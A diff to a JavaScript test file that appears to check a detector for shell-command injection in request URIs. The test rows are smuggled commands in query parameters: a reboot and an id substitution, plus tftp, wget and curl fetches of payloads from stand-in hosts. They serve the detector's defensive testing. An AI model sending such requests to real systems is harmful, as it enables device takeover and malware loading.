@@ -11,6 +11,7 @@ test.each([
   ['/set?ip=$(reboot)', ''],
   ['/set?x=`id`', ''],
   ['/set?a=1%0Atftp%20-g%20-r%20bot%20198.51.100.7', '198.51.100.7'],
+  ['/set?a=;wget%20http://[2001:db8::7]:8080/x', '2001:db8::7'],
   ['/set?a=%26%26curl%20-O%20http://loader.example.net/a.sh', 'loader.example.net'],
 ])('a shell command in %s', (uri, target) => {
   expect(injectionOf(uri, '')).toMatchObject({ kind: 'shell', target })
